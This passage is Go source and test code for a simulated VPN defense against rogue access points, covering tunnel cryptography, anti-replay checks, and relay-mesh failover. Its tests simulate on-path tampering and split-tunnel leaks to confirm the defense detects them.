	// encrypted records to the VPN port, never as cleartext TCP to the web
	// server: that is the paper's whole point.
	w := newVPNWorld(t)
	sawCleartextToWeb := false
	w.clientIP.AddHook(hookFunc(func(point ipv4.HookPoint, pkt *ipv4.Packet, in, out string) ipv4.Verdict {
		if point == ipv4.HookPostrouting && out == "eth0" &&
			pkt.Dst == inet.MustParseAddr("10.0.2.2") {
			sawCleartextToWeb = true
		}
		return ipv4.VerdictAccept
	}))
	if got := endToEnd(t, w, CarrierTCP); string(got) != "web:hello" {
		t.Fatalf("got %q", got)
	}
	if sawCleartextToWeb {
		t.Fatal("inner traffic left the client outside the tunnel")
	}
}

type hookFunc func(point ipv4.HookPoint, pkt *ipv4.Packet, in, out string) ipv4.Verdict

func (f hookFunc) Filter(point ipv4.HookPoint, pkt *ipv4.Packet, in, out string) ipv4.Verdict {
	return f(point, pkt, in, out)
}

func TestSplitTunnelLeaksOtherTraffic(t *testing.T) {
	// E3 ablation: with a split tunnel covering only 10.0.3.0/24, traffic
	// to the web host still crosses the wireless side in the clear.
	w := newVPNWorld(t)
	_, _ = NewServerTCP(w.serverIP, w.stcp, ServerConfig{PSK: []byte("secret")})
	cli, _ := ConnectTCP(w.clientIP, w.ctcp, ClientConfig{
		PSK: []byte("secret"), Server: vpnServerHP,
		SplitTunnelPrefixes: []inet.Prefix{inet.MustParsePrefix("10.0.3.0/24")},
	})
	sawCleartextToWeb := false
	w.clientIP.AddHook(hookFunc(func(point ipv4.HookPoint, pkt *ipv4.Packet, in, out string) ipv4.Verdict {
		if point == ipv4.HookPostrouting && out == "eth0" && pkt.Dst == inet.MustParseAddr("10.0.2.2") {
			sawCleartextToWeb = true
		}
		return ipv4.VerdictAccept
	}))
	l, _ := w.webTCP.Listen(80)
	l.OnAccept = func(c *tcp.Conn) { c.OnData = func(b []byte) { _ = c.Write([]byte("x")) } }
	done := false
	cli.OnUp = func(ip inet.Addr) {
		conn, _ := w.ctcp.Dial(inet.MustParseHostPort("10.0.2.2:80"))
		conn.OnConnect = func() { _ = conn.Write([]byte("q")) }
		conn.OnData = func(b []byte) { done = true }
	}
	w.k.RunUntil(30 * sim.Second)
	if !done {
		t.Fatal("split-tunnel connection failed entirely")
	}
	if !sawCleartextToWeb {
		t.Fatal("expected cleartext leak under split tunnel")
	}
}

func TestOnPathTamperingDetected(t *testing.T) {
	// A middlebox flips bits in tunnel records; the client's opener must
	// reject them and count the tampering.
	w := newVPNWorld(t)
	tampered := 0
	tunnelUp := false
	w.serverIP.AddHook(hookFunc(func(point ipv4.HookPoint, pkt *ipv4.Packet, in, out string) ipv4.Verdict {
		// Corrupt some server->client carrier payloads as they leave —
		// but only after the handshake, so the tunnel establishes first.
		if tunnelUp && point == ipv4.HookPostrouting && out == "eth0" && pkt.Proto == ipv4.ProtoTCP &&
			len(pkt.Payload) > 200 && tampered < 3 {
			pkt.Payload[100] ^= 0xff
			tampered++
			// Note: TCP checksum now wrong; fix it so the segment reaches
			// the VPN layer (modelling an attacker who fixes checksums).
			fixTCPChecksum(pkt)
		}
		return ipv4.VerdictAccept
	}))
	_, _ = NewServerTCP(w.serverIP, w.stcp, ServerConfig{PSK: []byte("secret")})
	l, _ := w.webTCP.Listen(80)
	l.OnAccept = func(c *tcp.Conn) {
		c.OnData = func(b []byte) { _ = c.Write(make([]byte, 5000)); c.Close() }
	}
	cli, _ := ConnectTCP(w.clientIP, w.ctcp, ClientConfig{PSK: []byte("secret"), Server: vpnServerHP})
	cli.OnUp = func(ip inet.Addr) {
		tunnelUp = true
		conn, _ := w.ctcp.Dial(inet.MustParseHostPort("10.0.2.2:80"))
		conn.OnConnect = func() { _ = conn.Write([]byte("get")) }
		conn.OnData = func(b []byte) {}
	}
	w.k.RunUntil(sim.Minute)
	if tampered == 0 {
		t.Skip("no packets crossed the tamper window")
	}
	if cli.TamperDetected() == 0 {
		t.Fatal("tampering went undetected by the tunnel MAC")
	}
}

func fixTCPChecksum(pkt *ipv4.Packet) {
	if len(pkt.Payload) < 18 {
		return
	}
	pkt.Payload[16], pkt.Payload[17] = 0, 0
	sum := inet.PseudoHeaderSum(pkt.Src, pkt.Dst, pkt.Proto, uint16(len(pkt.Payload)))
	sum = inet.SumBytes(sum, pkt.Payload)
	cs := inet.FinishChecksum(sum)
	pkt.Payload[16], pkt.Payload[17] = byte(cs>>8), byte(cs)
}

func TestCarrierString(t *testing.T) {
	if CarrierTCP.String() != "tcp" || CarrierUDP.String() != "udp" {
		t.Fatal("carrier names")
	}
}

// open() must never panic on arbitrary records; it faces attacker bytes.
func TestQuickOpenNoPanic(t *testing.T) {
	keys := deriveKeys([]byte("psk"), []byte("nc"), []byte("ns"))
	o := newOpener(keys.encC2S, keys.macC2S[:])
	f := func(b []byte) bool {
		_, _ = o.open(b)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

// frameStream must never panic and must never emit partial messages.
func TestQuickFrameStreamNoPanic(t *testing.T) {
	f := func(chunks [][]byte) bool {
		var fs frameStream
		for _, c := range chunks {
			for _, m := range fs.push(c) {
				if len(m) == 0 {
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

// clampMSS must never panic on arbitrary "IP packets".
func TestQuickClampMSSNoPanic(t *testing.T) {
	f := func(b []byte) bool {
		_ = clampMSS(b, InnerMSS)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}
