package vpn

import (
	"bytes"
	"testing"

	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/sim"
	"repro/internal/tcp"
)

// meshWorld is a diamond overlay on one wire:
//
//	client ── relay1 ──┐
//	   └───── relay2 ──┴── exit (advertises its own /32)
//
// The client dials both relays (link0 = relay1, link1 = relay2), each relay
// dials the exit, and the exit terminates streams. Partitioning relay1
// forces the failover path through relay2.
type meshWorld struct {
	k          *sim.Kernel
	clientIP   *ipv4.Stack
	relay1IP   *ipv4.Stack
	relay2IP   *ipv4.Stack
	exitIP     *ipv4.Stack
	client     *Node
	relay1     *Node
	relay2     *Node
	exit       *Node
	exitTCP    *tcp.Stack
	clientTCP  *tcp.Stack
	exitPrefix inet.Prefix
}

var exitHP = inet.MustParseHostPort("10.0.1.1:4789")

// overlayCfg returns a fast-healing link configuration for tests.
func overlayCfg(name string, role Role) NodeConfig {
	return NodeConfig{
		Name: name, Role: role, PSK: []byte("mesh-psk"),
		Keepalive:        500 * sim.Millisecond,
		PeerTimeout:      1500 * sim.Millisecond,
		HandshakeTimeout: 2 * sim.Second,
		BackoffBase:      250 * sim.Millisecond,
		BackoffMax:       4 * sim.Second,
	}
}

func newMeshWorld(t *testing.T, seed uint64) *meshWorld {
	t.Helper()
	k := sim.NewKernel(seed)
	var alloc ethernet.MACAllocator
	sw := ethernet.NewSwitch(k, &alloc, ethernet.SwitchConfig{})

	host := func(name, addr string) *ipv4.Stack {
		ip := ipv4.NewStack(k, name)
		ip.AddIface("eth0", sw.Attach(alloc.Next()), inet.MustParseAddr(addr), inet.MustParsePrefix("10.0.1.0/24"))
		return ip
	}
	w := &meshWorld{
		k:          k,
		exitIP:     host("exit", "10.0.1.1"),
		clientIP:   host("client", "10.0.1.10"),
		relay1IP:   host("relay1", "10.0.1.11"),
		relay2IP:   host("relay2", "10.0.1.12"),
		exitPrefix: inet.MustParsePrefix("10.0.1.1/32"),
	}
	w.exitTCP = tcp.NewStack(w.exitIP)
	w.clientTCP = tcp.NewStack(w.clientIP)
	r1TCP := tcp.NewStack(w.relay1IP)
	r2TCP := tcp.NewStack(w.relay2IP)

	exitCfg := overlayCfg("exit", RoleExit)
	exitCfg.Advertise = []inet.Prefix{w.exitPrefix}
	w.exit = NewNode(w.exitIP, w.exitTCP, exitCfg)
	w.relay1 = NewNode(w.relay1IP, r1TCP, overlayCfg("relay1", RoleRelay))
	w.relay2 = NewNode(w.relay2IP, r2TCP, overlayCfg("relay2", RoleRelay))
	w.client = NewNode(w.clientIP, w.clientTCP, overlayCfg("alice", RoleClient))

	if err := w.exit.Listen(); err != nil {
		t.Fatal(err)
	}
	if err := w.relay1.Listen(); err != nil {
		t.Fatal(err)
	}
	if err := w.relay2.Listen(); err != nil {
		t.Fatal(err)
	}
	w.relay1.AddPeer(inet.MustParseHostPort("10.0.1.1:4790"))
	w.relay2.AddPeer(inet.MustParseHostPort("10.0.1.1:4790"))
	w.client.AddPeer(inet.MustParseHostPort("10.0.1.11:4790")) // link0
	w.client.AddPeer(inet.MustParseHostPort("10.0.1.12:4790")) // link1
	return w
}

// TestOverlayRoutesConverge: the exit's prefix floods through both relays to
// the client, the best route prefers the lower link sequence (relay1), and
// poisoned reverse keeps the relays from offering the route back to the
// exit.
func TestOverlayRoutesConverge(t *testing.T) {
	w := newMeshWorld(t, 1)
	w.k.RunUntil(3 * sim.Second)
	if got := w.client.LinksUp(); got != 2 {
		t.Fatalf("client links up = %d, want 2", got)
	}
	reach := w.client.ReachablePrefixes()
	if len(reach) != 1 || reach[0] != w.exitPrefix {
		t.Fatalf("client routes = %v, want [%v]", reach, w.exitPrefix)
	}
	if b := w.client.rt.best[w.exitPrefix]; b.linkSeq != 0 || b.hops != 2 {
		t.Fatalf("best route = link%d hops=%d, want link0 hops=2 (relay1, deterministic tie-break)", b.linkSeq, b.hops)
	}
	// The exit must never learn a route to itself from the mesh.
	if got := w.exit.ReachablePrefixes(); len(got) != 0 {
		t.Fatalf("exit learned routes to itself: %v", got)
	}
}

// TestOverlayStreamEcho drives a stream through a relay to an exit handler
// and back, then half-closes both directions for a clean shutdown.
func TestOverlayStreamEcho(t *testing.T) {
	w := newMeshWorld(t, 1)
	var gotOrigin string
	w.exit.Handle(9000, func(st *Stream) {
		gotOrigin = st.Origin
		st.OnData = func(b []byte) { st.Write(append([]byte("echo:"), b...)) }
		st.OnCloseRead = func() { st.CloseWrite() }
	})
	w.k.RunUntil(2 * sim.Second)

	st, err := w.client.OpenStream(inet.MustParseHostPort("10.0.1.1:9000"))
	if err != nil {
		t.Fatal(err)
	}
	var got []byte
	closedErr := error(ErrStreamReset)
	done := false
	st.OnData = func(b []byte) { got = append(got, b...) }
	st.OnClose = func(err error) { closedErr, done = err, true }
	st.Write([]byte("hello mesh"))
	w.k.RunUntil(3 * sim.Second)
	st.CloseWrite()
	w.k.RunUntil(4 * sim.Second)

	if !bytes.Equal(got, []byte("echo:hello mesh")) {
		t.Fatalf("echo = %q", got)
	}
	if gotOrigin != "alice" {
		t.Fatalf("origin = %q, want the pseudonym, never an address", gotOrigin)
	}
	if !done || closedErr != nil {
		t.Fatalf("clean close: done=%v err=%v", done, closedErr)
	}
	if w.relay1.StreamsForwarded != 1 || w.relay1.FramesForwarded < 2 {
		t.Fatalf("relay1 forwarded streams=%d frames=%d", w.relay1.StreamsForwarded, w.relay1.FramesForwarded)
	}
	// Teardown must not leak stream state anywhere along the chain.
	for _, n := range []*Node{w.client, w.relay1, w.relay2, w.exit} {
		for _, l := range n.links {
			if len(l.streams) != 0 {
				t.Fatalf("%s link%d leaked %d streams", n.cfg.Name, l.seq, len(l.streams))
			}
		}
	}
}

// TestOverlayTunnelFailover is the headline: the end-to-end tunnel rides the
// mesh, relay1 dies mid-session, the client's DPD notices, and the redial
// rebuilds the chain through relay2 — rekeyed, same tunnel address, and the
// inner traffic decrypts end to end afterwards.
func TestOverlayTunnelFailover(t *testing.T) {
	w := newMeshWorld(t, 7)
	srv, err := NewServerStream(w.exit, ServerConfig{PSK: []byte("secret")})
	if err != nil {
		t.Fatal(err)
	}
	var cli *Client
	w.k.At(sim.Second, func() {
		cfg := ClientConfig{
			PSK: []byte("secret"), Server: exitHP,
			Keepalive:            500 * sim.Millisecond,
			HandshakeTimeout:     2 * sim.Second,
			ReconnectBackoffBase: 250 * sim.Millisecond,
			ReconnectBackoffMax:  4 * sim.Second,
		}
		cli, err = ConnectOverlay(w.clientIP, w.client, cfg)
		if err != nil {
			t.Errorf("ConnectOverlay: %v", err)
		}
	})
	w.k.RunUntil(4 * sim.Second)
	if cli == nil || !cli.Up() {
		t.Fatal("tunnel not up over the mesh")
	}
	firstIP := cli.TunnelIP()
	terminal := false
	cli.OnDown = func(error) { terminal = true }

	// relay1 — the active first hop — dies.
	w.relay1IP.SetPartitioned(true)
	w.k.RunUntil(20 * sim.Second)

	if !cli.Up() {
		t.Fatalf("tunnel did not fail over: PeerTimeouts=%d Reconnects=%d", cli.PeerTimeouts, cli.Reconnects)
	}
	if terminal {
		t.Fatal("failover fired OnDown")
	}
	if cli.TunnelIP() != firstIP {
		t.Fatalf("tunnel address changed across failover: %v -> %v", firstIP, cli.TunnelIP())
	}
	if cli.Rekeys == 0 || srv.Rekeys == 0 {
		t.Fatalf("rebuilt chain did not rekey (client %d, server %d)", cli.Rekeys, srv.Rekeys)
	}
	if b := w.client.rt.best[w.exitPrefix]; b.linkSeq != 1 {
		t.Fatalf("best route still via link%d, want link1 (relay2)", b.linkSeq)
	}
	// Only one live server session: the origin key reused it.
	if got := len(srv.sessions); got != 1 {
		t.Fatalf("server sessions = %d, want 1 (keyed by origin)", got)
	}
	if srv.Handshakes < 2 {
		t.Fatalf("Handshakes = %d, want the rebuild to re-handshake", srv.Handshakes)
	}
}

// TestOverlayHostileRelayDetected is E13's core mechanism: a hostile first
// hop selectively mangles forwarded tunnel records (letting the handshake
// through so the session establishes), the overlay keeps forwarding — it
// cannot tell — and the end-to-end record MACs detect every mangled record.
func TestOverlayHostileRelayDetected(t *testing.T) {
	w := newMeshWorld(t, 1)
	srv, err := NewServerStream(w.exit, ServerConfig{PSK: []byte("secret")})
	if err != nil {
		t.Fatal(err)
	}
	mangled := 0
	w.relay1.MangleForward = func(b []byte) []byte {
		// The relay sees the carrier framing (len||type||body) in the
		// clear; a selective attacker passes the handshake untouched and
		// flips bits only inside sealed records.
		if len(b) > 3 && (b[2] == msgData || b[2] == msgKeepalive) {
			b = append([]byte(nil), b...)
			b[len(b)/2] ^= 0x40
			mangled++
		}
		return b
	}
	var cli *Client
	w.k.At(sim.Second, func() {
		cli, err = ConnectOverlay(w.clientIP, w.client, ClientConfig{
			PSK: []byte("secret"), Server: exitHP,
			Keepalive: 500 * sim.Millisecond,
		})
		if err != nil {
			t.Errorf("ConnectOverlay: %v", err)
		}
	})
	w.k.RunUntil(15 * sim.Second)
	if cli == nil || srv.Handshakes == 0 {
		t.Fatal("handshake (untouched by the selective mangler) never completed")
	}
	if mangled == 0 {
		t.Fatal("hostile relay never saw a sealed record")
	}
	detected := srv.TamperDetected() + cli.TamperDetected()
	if detected == 0 {
		t.Fatalf("%d mangled records, none detected end to end", mangled)
	}
	// The per-hop links themselves stay clean: tampering happened inside
	// the relay, past its own link MACs.
	if w.client.TamperDetected() != 0 {
		t.Fatal("per-hop MACs flagged the mangling — it must be invisible to the overlay")
	}
}

// TestStaleCarrierCannotDeliver pins the generation guard: after a rebuilt
// chain attaches a replacement carrier for the same origin, frames arriving
// on the pre-failover stream must be dropped, not fed into the session.
func TestStaleCarrierCannotDeliver(t *testing.T) {
	w := newMeshWorld(t, 1)
	srv, err := NewServerStream(w.exit, ServerConfig{PSK: []byte("secret")})
	if err != nil {
		t.Fatal(err)
	}
	w.k.RunUntil(2 * sim.Second)

	// Two carriers from the same origin, attached in order: stale then live.
	stale, err := w.client.OpenStream(exitHP)
	if err != nil {
		t.Fatal(err)
	}
	w.k.RunUntil(3 * sim.Second)
	live, err := w.client.OpenStream(exitHP)
	if err != nil {
		t.Fatal(err)
	}
	w.k.RunUntil(4 * sim.Second)

	// A hello on the live carrier is answered; the same hello on the stale
	// carrier must be ignored entirely.
	nonce := bytes.Repeat([]byte{0xaa}, nonceLen)
	liveReplies, staleReplies := 0, 0
	live.OnData = func([]byte) { liveReplies++ }
	stale.OnData = func([]byte) { staleReplies++ }
	live.Write(frame(msgClientHello, nonce))
	w.k.RunUntil(5 * sim.Second)
	stale.Write(frame(msgClientHello, nonce))
	w.k.RunUntil(6 * sim.Second)

	if liveReplies == 0 {
		t.Fatal("live carrier got no server hello")
	}
	if staleReplies != 0 {
		t.Fatalf("stale carrier delivered: got %d replies through a replaced generation", staleReplies)
	}
	_ = srv
}

// TestRelayChainReconnectStormConverges mirrors the dot11 STA rescan
// livelock test at the overlay layer: a 3-hop chain whose middle hop flaps
// repeatedly must converge back to fully-up links once the flapping stops —
// seeded backoff must spread the redials instead of synchronising them into
// a storm that never settles.
func TestRelayChainReconnectStormConverges(t *testing.T) {
	k := sim.NewKernel(42)
	var alloc ethernet.MACAllocator
	sw := ethernet.NewSwitch(k, &alloc, ethernet.SwitchConfig{})
	host := func(name, addr string) *ipv4.Stack {
		ip := ipv4.NewStack(k, name)
		ip.AddIface("eth0", sw.Attach(alloc.Next()), inet.MustParseAddr(addr), inet.MustParsePrefix("10.0.1.0/24"))
		return ip
	}
	exitIP := host("exit", "10.0.1.1")
	r1IP := host("relay1", "10.0.1.11")
	r2IP := host("relay2", "10.0.1.12")
	cliIP := host("client", "10.0.1.10")

	exitCfg := overlayCfg("exit", RoleExit)
	exitCfg.Advertise = []inet.Prefix{inet.MustParsePrefix("10.0.1.1/32")}
	exit := NewNode(exitIP, tcp.NewStack(exitIP), exitCfg)
	r1 := NewNode(r1IP, tcp.NewStack(r1IP), overlayCfg("relay1", RoleRelay))
	r2 := NewNode(r2IP, tcp.NewStack(r2IP), overlayCfg("relay2", RoleRelay))
	cli := NewNode(cliIP, tcp.NewStack(cliIP), overlayCfg("alice", RoleClient))

	// Linear 3-hop chain: client -> r1 -> r2 -> exit.
	if err := exit.Listen(); err != nil {
		t.Fatal(err)
	}
	if err := r1.Listen(); err != nil {
		t.Fatal(err)
	}
	if err := r2.Listen(); err != nil {
		t.Fatal(err)
	}
	r2.AddPeer(inet.MustParseHostPort("10.0.1.1:4790"))
	r1.AddPeer(inet.MustParseHostPort("10.0.1.12:4790"))
	cli.AddPeer(inet.MustParseHostPort("10.0.1.11:4790"))
	k.RunUntil(3 * sim.Second)
	if cli.LinksUp() != 1 || len(cli.ReachablePrefixes()) != 1 {
		t.Fatal("chain never converged before the storm")
	}

	// Storm: the middle relay flaps 10 times at 900 ms period — shorter
	// than the backoff max, so ladders keep resetting and climbing.
	for i := 0; i < 10; i++ {
		at := 3*sim.Second + sim.Time(i)*900*sim.Millisecond
		k.At(at, func() { r2IP.SetPartitioned(true) })
		k.At(at+450*sim.Millisecond, func() { r2IP.SetPartitioned(false) })
	}
	k.RunUntil(60 * sim.Second)

	if cli.LinksUp() != 1 || r1.LinksUp() < 2 || r2.LinksUp() < 2 {
		t.Fatalf("chain livelocked: cli=%d r1=%d r2=%d links up",
			cli.LinksUp(), r1.LinksUp(), r2.LinksUp())
	}
	if got := cli.ReachablePrefixes(); len(got) != 1 {
		t.Fatalf("routes did not re-converge: %v", got)
	}
	if r1.LinkReconnects() == 0 {
		t.Fatal("storm produced no reconnect attempts — test exercised nothing")
	}
	// Post-storm the chain must carry traffic again.
	var echoed []byte
	exit.Handle(9000, func(st *Stream) {
		st.OnData = func(b []byte) { st.Write(b) }
	})
	st, err := cli.OpenStream(inet.MustParseHostPort("10.0.1.1:9000"))
	if err != nil {
		t.Fatalf("post-storm open: %v", err)
	}
	st.OnData = func(b []byte) { echoed = append(echoed, b...) }
	st.Write([]byte("after the storm"))
	k.RunUntil(62 * sim.Second)
	if !bytes.Equal(echoed, []byte("after the storm")) {
		t.Fatalf("post-storm echo = %q", echoed)
	}
}

// TestOverlayDeterministic: the same seed and schedule must produce an
// identical failover trace — byte-identical digests across replays.
func TestOverlayDeterministic(t *testing.T) {
	run := func() (uint64, uint64) {
		w := newMeshWorld(t, 7)
		srv, err := NewServerStream(w.exit, ServerConfig{PSK: []byte("secret")})
		if err != nil {
			t.Fatal(err)
		}
		w.k.At(sim.Second, func() {
			_, err := ConnectOverlay(w.clientIP, w.client, ClientConfig{
				PSK: []byte("secret"), Server: exitHP,
				Keepalive: 500 * sim.Millisecond, ReconnectBackoffBase: 250 * sim.Millisecond,
			})
			if err != nil {
				t.Errorf("ConnectOverlay: %v", err)
			}
		})
		w.k.At(5*sim.Second, func() { w.relay1IP.SetPartitioned(true) })
		w.k.At(12*sim.Second, func() { w.relay1IP.SetPartitioned(false) })
		w.k.RunUntil(25 * sim.Second)
		return w.k.Digest(), srv.Handshakes
	}
	d1, h1 := run()
	d2, h2 := run()
	if d1 != d2 || h1 != h2 {
		t.Fatalf("replay diverged: digest %x vs %x, handshakes %d vs %d", d1, d2, h1, h2)
	}
}
