// Package vpn implements the paper's defense (Section 5): a client tunnels
// ALL traffic through an encrypted, mutually authenticated tunnel to a
// trusted endpoint on a secure wired network, so nothing the rogue AP or a
// hostile hotspot does to the wireless segment can read or modify the
// client's traffic.
//
// The tunnel meets the paper's four VPN requirements:
//
//  1. provided by a trustworthy entity — the endpoint is chosen by
//     configuration, not discovered on the hostile network;
//  2. authentication information preestablished — a pre-shared key
//     exchanged out of band (§5.2: "arrangements for the VPN ... must take
//     place out of band");
//  3. endpoint in a secure wired network — topology builders place it
//     behind the wired distribution network;
//  4. handles all client traffic — the client installs OpenVPN-style
//     0.0.0.0/1 + 128.0.0.0/1 routes through the tunnel device (a
//     split-tunnel mode exists only as the E3 ablation showing why partial
//     tunnelling fails).
//
// Cryptography: HMAC-SHA256 mutual authentication and key derivation from
// the PSK, AES-CTR record encryption, truncated HMAC-SHA256 record
// integrity, and a 64-entry sliding anti-replay window. The paper's tested
// instantiation was PPP over SSH; both its TCP carrier (with the §5.3
// TCP-over-TCP retransmission pathology) and a UDP carrier are provided.
package vpn

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/binary"
	"errors"
)

// Message types on the control/data channel.
const (
	msgClientHello byte = 1
	msgServerHello byte = 2
	msgClientAuth  byte = 3
	msgAssignIP    byte = 4
	msgData        byte = 5
	// msgKeepalive carries a sealed empty record in either direction: the
	// client probes liveness, the server echoes. Sealing (rather than a bare
	// ping) means a rogue on the path cannot forge "the peer is alive".
	msgKeepalive byte = 6
)

// MsgData and MsgKeepalive expose the sealed-record frame types: everything
// an on-path observer without keys (E13's hostile relay) can classify from
// the carrier framing, and therefore all it can selectively target.
const (
	MsgData      = msgData
	MsgKeepalive = msgKeepalive
)

// nonceLen is the handshake nonce size.
const nonceLen = 16

// macLen is the truncated record MAC size.
const macLen = 16

// RecordOverhead is the bytes a data record adds to an inner packet.
const RecordOverhead = 8 + macLen

// sessionKeys holds the directional keys derived from the PSK and nonces.
type sessionKeys struct {
	encC2S, encS2C [16]byte
	macC2S, macS2C [32]byte
}

// deriveKeys computes the session keys. Both sides derive identically.
func deriveKeys(psk []byte, nonceC, nonceS []byte) sessionKeys {
	kdf := func(label string) []byte {
		m := hmac.New(sha256.New, psk)
		m.Write([]byte(label))
		m.Write(nonceC)
		m.Write(nonceS)
		return m.Sum(nil)
	}
	var k sessionKeys
	copy(k.encC2S[:], kdf("enc client->server"))
	copy(k.encS2C[:], kdf("enc server->client"))
	copy(k.macC2S[:], kdf("mac client->server"))
	copy(k.macS2C[:], kdf("mac server->client"))
	return k
}

// authTag computes the handshake authentication proof for a role.
func authTag(psk []byte, role string, nonceC, nonceS []byte) []byte {
	m := hmac.New(sha256.New, psk)
	m.Write([]byte(role))
	m.Write(nonceC)
	m.Write(nonceS)
	return m.Sum(nil)
}

// sealer encrypts and authenticates data records in one direction.
type sealer struct {
	block  cipher.Block
	macKey []byte
	seq    uint64
}

func newSealer(encKey [16]byte, macKey []byte) *sealer {
	block, err := aes.NewCipher(encKey[:])
	if err != nil {
		panic(err) // fixed key size; cannot fail
	}
	return &sealer{block: block, macKey: macKey}
}

// seal produces seq(8) || ciphertext || mac(16).
func (s *sealer) seal(plaintext []byte) []byte {
	s.seq++
	out := make([]byte, 8+len(plaintext)+macLen)
	binary.BigEndian.PutUint64(out[0:8], s.seq)
	var iv [16]byte
	copy(iv[:8], out[0:8])
	cipher.NewCTR(s.block, iv[:]).XORKeyStream(out[8:8+len(plaintext)], plaintext)
	m := hmac.New(sha256.New, s.macKey)
	m.Write(out[:8+len(plaintext)])
	copy(out[8+len(plaintext):], m.Sum(nil)[:macLen])
	return out
}

// Errors from record opening.
var (
	ErrRecordShort = errors.New("vpn: record too short")
	ErrRecordMAC   = errors.New("vpn: record MAC verification failed")
	ErrReplay      = errors.New("vpn: replayed or stale record")
)

// opener verifies and decrypts records in one direction with anti-replay.
type opener struct {
	block  cipher.Block
	macKey []byte
	// Sliding anti-replay window.
	maxSeq uint64
	window uint64

	// MACFailures counts tamper detections — experiment E3's direct
	// evidence that the attack is noticed, not just prevented.
	MACFailures uint64
	Replays     uint64
}

func newOpener(encKey [16]byte, macKey []byte) *opener {
	block, err := aes.NewCipher(encKey[:])
	if err != nil {
		panic(err)
	}
	return &opener{block: block, macKey: macKey}
}

// open verifies and decrypts a record produced by seal.
func (o *opener) open(record []byte) ([]byte, error) {
	if len(record) < 8+macLen {
		return nil, ErrRecordShort
	}
	body := record[:len(record)-macLen]
	m := hmac.New(sha256.New, o.macKey)
	m.Write(body)
	if !hmac.Equal(m.Sum(nil)[:macLen], record[len(record)-macLen:]) {
		o.MACFailures++
		return nil, ErrRecordMAC
	}
	seq := binary.BigEndian.Uint64(body[0:8])
	if !o.checkReplay(seq) {
		o.Replays++
		return nil, ErrReplay
	}
	var iv [16]byte
	copy(iv[:8], body[0:8])
	plaintext := make([]byte, len(body)-8)
	cipher.NewCTR(o.block, iv[:]).XORKeyStream(plaintext, body[8:])
	return plaintext, nil
}

// checkReplay implements a 64-entry sliding window, updating state on
// acceptance.
func (o *opener) checkReplay(seq uint64) bool {
	switch {
	case seq == 0:
		return false
	case seq > o.maxSeq:
		shift := seq - o.maxSeq
		if shift >= 64 {
			o.window = 0
		} else {
			o.window <<= shift
		}
		o.window |= 1
		o.maxSeq = seq
		return true
	case o.maxSeq-seq >= 64:
		return false // too old
	default:
		bit := uint64(1) << (o.maxSeq - seq)
		if o.window&bit != 0 {
			return false // seen
		}
		o.window |= bit
		return true
	}
}
