package vpn

import (
	"fmt"

	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/sim"
)

// The end-to-end tunnel over the overlay: the client's carrier is an
// overlay stream instead of a raw TCP connection, so the tunnel reaches the
// endpoint through whatever relay chain the routing table picks — and when
// a relay dies, the client's DPD notices, the redial opens a NEW stream
// over the (possibly re-routed) mesh, and the server recognises the client
// by its origin pseudonym so the rekeyed session keeps its tunnel address.
// Relays only ever see the doubly-sealed records.

// ConnectOverlay brings the end-to-end tunnel up with an overlay stream as
// carrier. node must be a RoleClient overlay node on the same host; the
// route to cfg.Server must already be advertised (give the mesh a moment to
// converge before connecting — exactly like waiting for a DHCP lease).
func ConnectOverlay(ip *ipv4.Stack, node *Node, cfg ClientConfig) (*Client, error) {
	cfg.fill()
	c := newClient(ip, cfg)
	// The overlay carrier always needs the reconnect ladder (a no-route
	// OpenStream backs off and retries even without DPD), so default it even
	// when fill() skipped the keepalive block.
	if c.bo.base == 0 {
		c.bo = backoff{base: sim.Second, max: 30 * sim.Second}
	}
	// Pin every dialed neighbour's path to the physical network NOW, before
	// the tunnel's redirect-gateway routes exist: the mesh carriers must
	// never be routed into the tunnel they carry. (bringUp pins cfg.Server
	// the same way, but overlay carriers flow to the relays, not the exit.)
	for _, addr := range node.PeerAddrs() {
		if r, ok := ip.LookupRoute(addr); ok && r.Iface != cfg.IfaceName {
			ip.AddRoute(ipv4.Route{
				Prefix:  inet.Prefix{Addr: addr, Bits: 32},
				Gateway: r.Gateway, Iface: r.Iface,
			})
		}
	}
	var cur *Stream
	attach := func(st *Stream) {
		cur = st
		c.carrierGen++
		gen := c.carrierGen
		c.sendMsg = func(msg []byte) { st.Write(msg) }
		c.abort = st.Reset
		st.OnData = func(b []byte) {
			if gen != c.carrierGen {
				return // late frames from a replaced stream
			}
			for _, m := range c.stream.push(b) {
				c.handleMsg(m)
			}
		}
		st.OnClose = func(err error) {
			if gen != c.carrierGen {
				return
			}
			switch {
			case c.state == stateUp && c.cfg.Keepalive > 0:
				// The chain died under an established tunnel: the redial
				// will re-route over whatever the mesh still has.
				c.peerDead()
			case c.state != stateUp && c.state != stateDown:
				if c.healing {
					c.state = stateIdle
					c.scheduleReconnect()
				} else {
					c.fail(fmt.Errorf("vpn: overlay carrier reset during handshake: %w", errOr(err)))
				}
			}
		}
	}
	c.redial = func() {
		// Orphan the dead stream before killing it so its OnClose (stale
		// generation) cannot re-enter the reconnect machinery.
		c.carrierGen++
		if cur != nil {
			cur.Reset()
			cur = nil
		}
		c.stream = frameStream{} // drop half-parsed bytes from the dead carrier
		st, err := node.OpenStream(cfg.Server)
		if err != nil {
			// No route right now (mid-failover): back off while the mesh
			// re-converges.
			c.scheduleReconnect()
			return
		}
		attach(st)
		c.begin()
		c.armTimeout()
	}
	st, err := node.OpenStream(cfg.Server)
	if err != nil {
		// The mesh has not converged a route to the exit yet (a client that
		// boots faster than its relays). Not terminal: ride the backoff
		// ladder until the first advertisement lands.
		c.scheduleReconnect()
		return c, nil
	}
	attach(st)
	c.begin()
	c.armTimeout()
	return c, nil
}

// NewServerStream starts the tunnel endpoint on an overlay node (normally
// the exit): inbound streams to the tunnel port are carriers. Sessions are
// keyed by the stream's origin pseudonym, so when a client's chain is
// rebuilt through different relays its re-handshake lands in the SAME
// session and keeps the reserved tunnel address — inner connections ride
// out the failover. A per-session carrier generation guards against stale
// streams: once the replacement carrier arrives, frames still in flight on
// the pre-failover chain are dropped on delivery.
func NewServerStream(node *Node, cfg ServerConfig) (*Server, error) {
